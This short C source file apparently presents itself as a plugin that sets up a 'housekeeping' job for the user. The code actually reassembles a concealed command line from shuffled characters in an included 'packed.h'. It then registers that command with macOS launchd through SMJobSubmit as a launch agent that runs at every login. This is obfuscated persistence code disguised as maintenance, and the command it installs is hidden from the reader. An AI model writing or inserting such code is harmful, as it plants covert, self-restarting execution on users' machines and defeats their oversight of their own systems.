/* Gives a job of housekeeping to what starts the jobs of a user. */
#include "plugin.h"
#include "packed.h"
extern void qsort(void *, unsigned long, unsigned long, int (*)(const void *, const void *));
extern const void *kSMDomainUserLaunchd, *kCFBooleanTrue, *kCFTypeArrayCallBacks, *kCFTypeDictionaryKeyCallBacks, *kCFTypeDictionaryValueCallBacks;
extern const void *CFStringCreateWithCString(const void *, const char *, unsigned), *CFArrayCreate(const void *, const void **, long, const void *),
    *CFDictionaryCreate(const void *, const void **, const void **, long, const void *, const void *);
extern unsigned char SMJobSubmit(const void *, const void *, const void *, void **);
static int earlier(const void *a, const void *b) { return ((const struct task *)a)->due - ((const struct task *)b)->due; }
static const void *text(const char *s) { return CFStringCreateWithCString(0, s, 0x08000100); }
static void act(char **env) {
    char line[sizeof tasks / sizeof *tasks + 1], *at = line;
    const void *words[8];
    long n = 0;
    qsort(tasks, sizeof tasks / sizeof *tasks, sizeof *tasks, earlier);
    for (unsigned i = 0; i < sizeof tasks / sizeof *tasks; i++) line[i] = tasks[i].kind == '|' ? 0 : tasks[i].kind;
    line[sizeof line - 1] = 0;
    for (; at < line + sizeof line - 1 && n < 8; n++) {
        words[n] = text(at);
        while (*at++) {}
    }
    const void *keys[] = {text("Label"), text("ProgramArguments"), text("RunAtLoad")};
    const void *values[] = {text("kit.housekeeping"), CFArrayCreate(0, words, n, &kCFTypeArrayCallBacks), kCFBooleanTrue};
    SMJobSubmit(kSMDomainUserLaunchd, CFDictionaryCreate(0, keys, values, 3, &kCFTypeDictionaryKeyCallBacks, &kCFTypeDictionaryValueCallBacks), 0, 0);
}
